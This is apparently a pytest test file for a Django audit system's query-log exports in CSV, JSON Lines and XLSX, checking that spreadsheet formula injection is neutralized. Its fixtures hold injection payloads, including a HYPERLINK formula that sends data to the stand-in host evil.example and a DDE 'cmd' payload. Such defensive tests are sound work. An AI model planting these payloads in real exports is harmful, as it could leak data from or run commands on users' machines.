"""Exports of the query log: column order, RFC 4180 CSV, formula neutralization, equal row sets
in CSV, JSON Lines and XLSX, file names, refusals, streaming across chunks, and export_log."""

import csv
import io
import json
from datetime import date
from io import StringIO

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.management import CommandError, call_command
from django.http import StreamingHttpResponse
from django.test import Client
from openpyxl import load_workbook

from audit.log.services import record_outcome
from audit.models import AccessRecord, QueryLogEntry, Technology
from audit.workspace.services import record_review
from tests.audit.queries import (
    CHICAGO,
    FACE,
    GOOD_REASON,
    LPR,
    NIBIN,
    at,
    flag_pairs,
    make_query,
    stored_flags_of,
)
from tests.factories import AgencyFactory, CertificationFactory, OperatorFactory

PERIOD = {"start": "2026-03-01", "end": "2026-03-31"}

# The documented column order (issue 5), spelled out here rather than imported from the app.
COLUMNS = [
    "sequence",
    "recorded_at",
    "occurred_at",
    "technology",
    "query_type",
    "requesting_agency",
    "on_behalf_of",
    "operator_badge",
    "operator_name",
    "unit",
    "supervisor_badge",
    "offense_code",
    "offense_category",
    "case_number",
    "justification",
    "scope",
    "result_count",
    "target_fingerprint",
    "flags",
    "outcomes",
    "review_status",
    "leaf_hash",
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\tTab-led reason about the robbery on 3rd Avenue",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def operators(home_agency):
    AgencyFactory(code="JCSO", name="Jefferson County Sheriff's Office")
    found = {}
    for badge, name, unit in (("B100", "Ana Ruiz", "RTCC"), ("B200", "Bo Chen", "Homicide")):
        op = OperatorFactory(badge_number=badge, name=name, agency=home_agency, unit=unit)
        for technology in Technology.objects.all():
            CertificationFactory(operator=op, technology=technology, certified_on=date(2025, 1, 1))
        found[badge] = op
    OperatorFactory(badge_number="S900", agency=home_agency, unit="RTCC", is_supervisor=True)
    return found


@pytest.fixture
def auditor_user(db):
    user = get_user_model().objects.create_user(username="auditor-user", password="x-1-y")
    user.groups.add(Group.objects.get(name="auditor"))
    return user


@pytest.fixture
def auditor(auditor_user):
    client = Client()
    client.force_login(auditor_user)
    return client


@pytest.fixture
def log(record, integration, auditor_user):
    """Entries in March with awkward text, flags, outcomes and reviews; one entry in April."""
    seqs = record(
        make_query(occurred_at=at(2), target="ABC 123"),
        make_query(
            FACE,
            target="probe-1",
            occurred_at=at(3, 3),
            operator="B200",
            offense_code="",
            justification="investigation",
            case_number="",
            supervisor="",
            on_behalf_of="=cmd|' /C calc'!A0",
            result_count=None,
        ),
        make_query(
            NIBIN,
            target=None,
            occurred_at=at(4),
            operator="Z999",  # not a registered operator: no name or unit
            requesting_agency="JCSO",
            justification='Casing from 3rd Ave, "two shots", see report\r\nline two; café',
        ),
        *(
            make_query(target=f"F{n}", occurred_at=at(5 + n), justification=text)
            for n, text in enumerate(FORMULAS)
        ),
        make_query(target="APR", occurred_at=at(2, month=4)),  # outside the period
    )
    by_seq = {e.sequence: e for e in QueryLogEntry.objects.all()}
    record_outcome(integration=integration, entry=by_seq[seqs[0]], outcome="lead")
    record_outcome(integration=integration, entry=by_seq[seqs[0]], outcome="arrest")
    record_review(entry=by_seq[seqs[1]], reviewer=auditor_user, finding="needs-follow-up", note="?")
    record_review(
        entry=by_seq[seqs[1]], reviewer=auditor_user, finding="non-compliant", note="No case."
    )
    return {
        "plate": seqs[0],
        "face": seqs[1],
        "nibin": seqs[2],
        "formulas": seqs[3 : 3 + len(FORMULAS)],
        "april": seqs[-1],
        "march": seqs[:-1],
    }


def body_of(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


def export(client, fmt: str, **params):
    return client.get("/audit/export/", {"format": fmt, **PERIOD, **params})


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def csv_dicts(data: bytes) -> list[dict]:
    rows = csv_rows(data)
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def jsonl_dicts(data: bytes) -> list[dict]:
    return [json.loads(line) for line in data.decode("utf-8").splitlines()]


def xlsx_rows(data: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(data), read_only=True)
    sheet = workbook.worksheets[0]
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    workbook.close()
    return rows


def neutral(value):
    """What a formula-safe export must hold for a value (the spreadsheet formats)."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def as_text(value) -> str:
    return "" if value is None else str(value)


def read_back(value):
    """XLSX keeps no empty strings, and XML parsing turns a carriage return into a line feed."""
    if value == "":
        return None
    if isinstance(value, str):
        return value.replace("\r\n", "\n").replace("\r", "\n")
    return value


def as_xlsx(value):
    """What reading an XLSX cell back gives for a value of the export."""
    return read_back(neutral(value))


def expected_row(entry: QueryLogEntry) -> dict:
    """One entry's export row, built from the model independently of audit.exports."""
    flags = sorted(stored_flags_of(entry.sequence))
    outcomes = list(entry.outcomes.order_by("id").values_list("outcome", flat=True))
    latest = entry.reviews.order_by("-id").values_list("finding", flat=True).first()
    return {
        "sequence": entry.sequence,
        "recorded_at": entry.recorded_at.astimezone(CHICAGO).isoformat(),
        "occurred_at": entry.occurred_at.astimezone(CHICAGO).isoformat(),
        "technology": entry.technology_id,
        "query_type": entry.query_type,
        "requesting_agency": entry.requesting_agency_code,
        "on_behalf_of": entry.on_behalf_of,
        "operator_badge": entry.operator_badge,
        "operator_name": entry.operator.name if entry.operator else "",
        "unit": entry.operator.unit if entry.operator else "",
        "supervisor_badge": entry.supervisor_badge,
        "offense_code": entry.offense_code,
        "offense_category": entry.offense_category,
        "case_number": entry.case_number,
        "justification": entry.justification,
        "scope": entry.scope,
        "result_count": entry.result_count,
        "target_fingerprint": entry.target_fingerprint,
        "flags": ";".join(flags),
        "outcomes": ";".join(outcomes),
        "review_status": latest or "unreviewed",
        "leaf_hash": entry.leaf_hash,
    }


# --- Columns and values -----------------------------------------------------------------------


def test_csv_header_is_the_documented_column_order(auditor, log):
    rows = csv_rows(body_of(export(auditor, "csv")))
    assert rows[0] == COLUMNS


def test_every_format_holds_the_documented_values(auditor, log):
    expected = [expected_row(e) for e in QueryLogEntry.objects.filter(sequence__in=log["march"])]
    spreadsheet = [{k: as_text(neutral(v)) for k, v in row.items()} for row in expected]

    assert csv_dicts(body_of(export(auditor, "csv"))) == spreadsheet
    assert jsonl_dicts(body_of(export(auditor, "jsonl"))) == expected
    rows = xlsx_rows(body_of(export(auditor, "xlsx")))
    assert rows[0] == COLUMNS
    assert [dict(zip(COLUMNS, row, strict=True)) for row in rows[1:]] == [
        {k: as_xlsx(v) for k, v in row.items()} for row in expected
    ]


def test_flags_outcomes_and_review_status_are_joined(auditor, log):
    rows = {int(r["sequence"]): r for r in csv_dicts(body_of(export(auditor, "csv")))}
    assert rows[log["plate"]]["outcomes"] == "lead;arrest"
    assert rows[log["plate"]]["flags"] == ""
    assert rows[log["plate"]]["review_status"] == "unreviewed"
    assert rows[log["face"]]["flags"] == (
        "missing-case-number;missing-offense;no-supervisor-approval;outside-agency;"
        "outside-staffed-hours;vague-justification"
    )
    assert rows[log["face"]]["review_status"] == "non-compliant"  # the later review wins
    assert rows[log["face"]]["result_count"] == ""
    assert rows[log["nibin"]]["operator_name"] == ""
    assert rows[log["nibin"]]["unit"] == ""
    assert rows[log["nibin"]]["flags"] == "outside-agency;unknown-operator"
    assert rows[log["plate"]]["operator_name"] == "Ana Ruiz"
    assert rows[log["plate"]]["unit"] == "RTCC"


def test_face_flags_are_sorted_and_complete(auditor, log):
    rows = {int(r["sequence"]): r for r in csv_dicts(body_of(export(auditor, "csv")))}
    flags = rows[log["face"]]["flags"].split(";")
    assert flags == sorted(flags)
    assert set(flags) == {
        "missing-case-number",
        "missing-offense",
        "no-supervisor-approval",
        "outside-agency",
        "outside-staffed-hours",
        "vague-justification",
    }


# --- CSV format and formula injection ---------------------------------------------------------


def test_csv_is_rfc4180_utf8_with_crlf(auditor, log):
    response = export(auditor, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body_of(response)
    text = data.decode("utf-8")
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    assert text.endswith("\r\n")
    # Every record ends in CRLF; the only bare line breaks are inside quoted fields.
    records = csv_rows(data)
    assert len(records) == 1 + len(log["march"])
    assert text.count("\r\n") == len(records) + 1  # one more: the CRLF inside a quoted field
    nibin = next(r for r in records[1:] if r[0] == str(log["nibin"]))
    assert nibin[COLUMNS.index("justification")] == (
        'Casing from 3rd Ave, "two shots", see report\r\nline two; café'
    )
    assert '"Casing from 3rd Ave, ""two shots"", see report\r\nline two; café"' in text


def test_formula_cells_are_neutralized_in_csv_and_xlsx_not_jsonl(auditor, log):
    csv_by_seq = {int(r["sequence"]): r for r in csv_dicts(body_of(export(auditor, "csv")))}
    jsonl_by_seq = {r["sequence"]: r for r in jsonl_dicts(body_of(export(auditor, "jsonl")))}
    xlsx = xlsx_rows(body_of(export(auditor, "xlsx")))
    xlsx_by_seq = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in xlsx[1:]}
    for seq, text in zip(log["formulas"], FORMULAS, strict=True):
        assert csv_by_seq[seq]["justification"] == "'" + text
        assert xlsx_by_seq[seq]["justification"] == "'" + text
        assert jsonl_by_seq[seq]["justification"] == text
    face = log["face"]
    assert csv_by_seq[face]["on_behalf_of"] == "'=cmd|' /C calc'!A0"
    assert xlsx_by_seq[face]["on_behalf_of"] == "'=cmd|' /C calc'!A0"
    assert jsonl_by_seq[face]["on_behalf_of"] == "=cmd|' /C calc'!A0"
    # Ordinary text is left alone.
    assert csv_by_seq[log["plate"]]["justification"] == GOOD_REASON


def test_no_csv_or_xlsx_cell_starts_a_formula(auditor, log):
    for row in csv_rows(body_of(export(auditor, "csv"))):
        assert not [cell for cell in row if cell.startswith(FORMULA_START)], row
    for row in xlsx_rows(body_of(export(auditor, "xlsx"))):
        cells = [c for c in row if isinstance(c, str) and c.startswith(FORMULA_START)]
        assert not cells, row


# --- Equal row sets in every format -----------------------------------------------------------


def normalized(rows: list[list], spreadsheet: bool) -> list[tuple[str, ...]]:
    """Rows as text tuples, compared as an XLSX reader sees them: JSONL values get the
    spreadsheet formats' neutralization; None and "" are alike; CR line ends become LF (XML
    normalizes them; the CSV's exact CRLF is checked in test_csv_is_rfc4180_utf8_with_crlf)."""
    return [
        tuple(as_text(read_back(value) if spreadsheet else as_xlsx(value)) for value in row)
        for row in rows
    ]


@pytest.mark.parametrize(
    "params", [{}, {"technology": LPR}, {"flag": "any"}, {"end": "2026-03-03"}]
)
def test_csv_jsonl_and_xlsx_hold_identical_rows(auditor, log, params):
    csv_data = csv_rows(body_of(export(auditor, "csv", **params)))
    jsonl_data = jsonl_dicts(body_of(export(auditor, "jsonl", **params)))
    xlsx_data = xlsx_rows(body_of(export(auditor, "xlsx", **params)))

    assert csv_data[0] == xlsx_data[0] == COLUMNS
    assert all(list(row) == COLUMNS for row in jsonl_data)
    from_csv = normalized(csv_data[1:], spreadsheet=True)
    from_xlsx = normalized(xlsx_data[1:], spreadsheet=True)
    from_jsonl = normalized([list(row.values()) for row in jsonl_data], spreadsheet=False)
    assert from_csv == from_xlsx == from_jsonl
    assert (
        len(from_csv)
        == QueryLogEntry.objects.filter(sequence__in=[int(r[0]) for r in from_csv]).count()
    )
    assert len(from_csv) > 0
    # Types survive where the format has them.
    assert all(isinstance(row["sequence"], int) for row in jsonl_data)
    assert all(isinstance(row[0], int) for row in xlsx_data[1:])


def test_filters_narrow_the_export(auditor, log):
    nibin = csv_dicts(body_of(export(auditor, "csv", technology=NIBIN)))
    assert [int(r["sequence"]) for r in nibin] == [log["nibin"]]
    april = csv_dicts(
        body_of(auditor.get("/audit/export/", {"format": "csv", "start": "2026-04-01"}))
    )
    assert [int(r["sequence"]) for r in april] == [log["april"]]
    everything = csv_dicts(body_of(auditor.get("/audit/export/", {"format": "csv"})))
    assert [int(r["sequence"]) for r in everything] == sorted(log["march"] + [log["april"]])


def test_control_characters_do_not_break_the_xlsx_export(auditor, api_client, operators):
    # The ingest API accepts any character but NUL; a vertical tab or a bell pasted from
    # another program must not turn the XLSX export into a server error.
    base = {
        "technology": LPR,
        "query_type": "plate-search",
        "occurred_at": "2026-03-04T14:00:00-06:00",
        "operator": "B100",
        "offense_code": "120",
        "case_number": "BPD-26-0009",
    }
    response = api_client.post(
        "/api/v1/queries/",
        [
            {**base, "target": "CTL1", "justification": "Robbery\x0bsuspect fled on foot, 26-77"},
            {**base, "target": "CTL2", "justification": "Burglary report\x07 with alarm log"},
        ],
        format="json",
    )
    assert response.status_code == 201, response.content
    seqs = [r["sequence"] for r in response.json()["results"]]
    csv_data = csv_dicts(body_of(auditor.get("/audit/export/", {"format": "csv"})))
    assert [int(r["sequence"]) for r in csv_data] == seqs
    rows = xlsx_rows(body_of(auditor.get("/audit/export/", {"format": "xlsx"})))
    assert [row[0] for row in rows[1:]] == seqs
    assert rows[1][COLUMNS.index("justification")].startswith("Robbery")
    assert rows[1][COLUMNS.index("justification")].endswith("suspect fled on foot, 26-77")
    assert "\x0b" not in rows[1][COLUMNS.index("justification")]
    assert rows[2][COLUMNS.index("justification")].startswith("Burglary report")


# --- File names, refusals and streaming -------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "jsonl", "xlsx"])
def test_file_name_carries_the_period(auditor, log, fmt):
    response = export(auditor, fmt)
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment")
    assert "2026-03-01" in disposition
    assert "2026-03-31" in disposition
    assert f".{fmt}" in disposition
    body_of(response)


@pytest.mark.parametrize("fmt", ["pdf", "CSV", "xls", ""])
def test_bad_format_is_refused_and_nothing_recorded(auditor, log, fmt):
    response = export(auditor, fmt)
    assert response.status_code == 400
    assert "format" in response.content.decode()
    assert "csv, jsonl, xlsx" in response.content.decode()
    assert not AccessRecord.objects.exists()


def test_bad_filters_are_refused_and_nothing_recorded(auditor, log):
    response = auditor.get(
        "/audit/export/", {"format": "csv", "start": "2026-03-31", "end": "2026-03-01"}
    )
    assert response.status_code == 400
    assert "end" in response.context["errors"]
    response = auditor.get("/audit/export/", {"format": "csv", "sample_size": "0", **PERIOD})
    assert response.status_code == 400
    assert "sample_size" in response.context["errors"]
    assert not AccessRecord.objects.exists()


def test_format_defaults_to_csv(auditor, log):
    response = auditor.get("/audit/export/", PERIOD)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_rows(body_of(response))[0] == COLUMNS


@pytest.mark.parametrize(
    ("fmt", "content_type"),
    [("csv", "text/csv; charset=utf-8"), ("jsonl", "application/x-ndjson; charset=utf-8")],
)
def test_csv_and_jsonl_stream(auditor, log, fmt, content_type):
    response = export(auditor, fmt)
    assert isinstance(response, StreamingHttpResponse)
    assert response.streaming
    assert response["Content-Type"] == content_type
    assert response["X-Row-Count"] == str(len(log["march"]))
    body_of(response)


def test_export_records_its_own_row_count(auditor, auditor_user, log):
    for fmt, params in (("csv", {}), ("jsonl", {"technology": LPR}), ("xlsx", {"flag": "any"})):
        data = body_of(export(auditor, fmt, **params))
        if fmt == "csv":
            count = len(csv_rows(data)) - 1
        elif fmt == "jsonl":
            count = len(jsonl_dicts(data))
        else:
            count = len(xlsx_rows(data)) - 1
        record = AccessRecord.objects.order_by("-id").first()
        assert record.user == auditor_user
        assert record.action == "export"
        assert record.row_count == count
        assert record.filters == {**PERIOD, **params, "format": fmt}
    assert AccessRecord.objects.count() == 3


# --- More than one chunk ----------------------------------------------------------------------


@pytest.fixture
def big_log(record, integration):
    """2,100 entries (more than one 2,000-entry export chunk) recorded in batches of 1,000."""
    badges = ["B100", "B200"]
    queries = [
        make_query(
            target=f"T{n}",
            operator=badges[n % 2],
            occurred_at=at(1 + n % 28, 6 + n % 17),
            case_number=f"C-{n}" if n % 7 else "",
        )
        for n in range(2100)
    ]
    seqs = []
    for start in range(0, len(queries), 1000):
        seqs += record(*queries[start : start + 1000])
    by_seq = {e.sequence: e for e in QueryLogEntry.objects.filter(sequence__in=[1999, 2000])}
    record_outcome(integration=integration, entry=by_seq[1999], outcome="lead")
    record_outcome(integration=integration, entry=by_seq[2000], outcome="no-match")
    return seqs


def test_export_of_more_than_one_chunk(auditor, big_log, tmp_path):
    # One test for the large log: recording 2,100 entries is the slow part.
    assert big_log == list(range(2100))
    csv_bytes = body_of(export(auditor, "csv"))
    csv_data = csv_dicts(csv_bytes)
    jsonl_data = jsonl_dicts(body_of(export(auditor, "jsonl")))
    assert [int(r["sequence"]) for r in csv_data] == big_log
    assert [r["sequence"] for r in jsonl_data] == big_log
    assert normalized([list(r.values()) for r in csv_data], spreadsheet=True) == normalized(
        [list(r.values()) for r in jsonl_data], spreadsheet=False
    )
    flags: dict[int, list[str]] = {}
    for seq, flag in sorted(flag_pairs()):
        flags.setdefault(seq, []).append(flag)
    assert [r["flags"] for r in jsonl_data] == [";".join(flags.get(s, [])) for s in big_log]
    assert sum(1 for r in jsonl_data if r["flags"]) > 300  # blank case numbers, night hours
    assert jsonl_data[1999]["outcomes"] == "lead"
    assert jsonl_data[2000]["outcomes"] == "no-match"
    assert jsonl_data[1998]["outcomes"] == jsonl_data[2001]["outcomes"] == ""
    counts = AccessRecord.objects.filter(action="export").values_list("row_count", flat=True)
    assert list(counts) == [len(big_log), len(big_log)]

    out = tmp_path / "march.csv"
    call_command(
        "export_log", "--start", PERIOD["start"], "--end", PERIOD["end"], "--format", "csv",
        "--output", str(out), stdout=StringIO(), stderr=StringIO(),
    )  # fmt: skip
    assert out.read_bytes() == csv_bytes


# --- manage.py export_log ---------------------------------------------------------------------


def run_export_log(*args) -> str:
    out = StringIO()
    call_command("export_log", *args, stdout=out, stderr=StringIO())
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_export_log_writes_the_same_rows_as_the_http_export(auditor, log, tmp_path, fmt):
    target = tmp_path / f"log.{fmt}"
    output = run_export_log(
        "--start", PERIOD["start"], "--end", PERIOD["end"], "--format", fmt, "--output", str(target)
    )
    assert f"Exported {len(log['march'])} entries" in output
    assert target.read_bytes() == body_of(export(auditor, fmt))


def test_export_log_xlsx_holds_the_same_rows(auditor, log, tmp_path):
    target = tmp_path / "log.xlsx"
    run_export_log(
        "--start",
        PERIOD["start"],
        "--end",
        PERIOD["end"],
        "--format",
        "xlsx",
        "--output",
        str(target),
    )
    assert xlsx_rows(target.read_bytes()) == xlsx_rows(body_of(export(auditor, "xlsx")))


def test_export_log_to_stdout(log):
    output = run_export_log(
        "--start", "2026-04-01", "--end", "2026-04-30", "--format", "jsonl", "--output", "-"
    )
    assert [row["sequence"] for row in jsonl_dicts(output.encode())] == [log["april"]]


@pytest.mark.parametrize(
    "args",
    [
        ("--start", "2026-03-31", "--end", "2026-03-01", "--format", "csv"),
        ("--start", "2026-02-30", "--end", "2026-03-31", "--format", "csv"),
        ("--start", "March", "--end", "2026-03-31", "--format", "csv"),
        ("--start", "2026-03-01", "--end", "2026-03-31", "--format", "pdf"),
    ],
)
def test_export_log_refuses_bad_arguments(log, tmp_path, args):
    target = tmp_path / "never.csv"
    with pytest.raises(CommandError):
        run_export_log(*args, "--output", str(target))
    assert not target.exists()


def test_export_log_refuses_xlsx_to_stdout(log):
    with pytest.raises(CommandError):
        run_export_log(
            "--start", "2026-03-01", "--end", "2026-03-31", "--format", "xlsx", "--output", "-"
        )
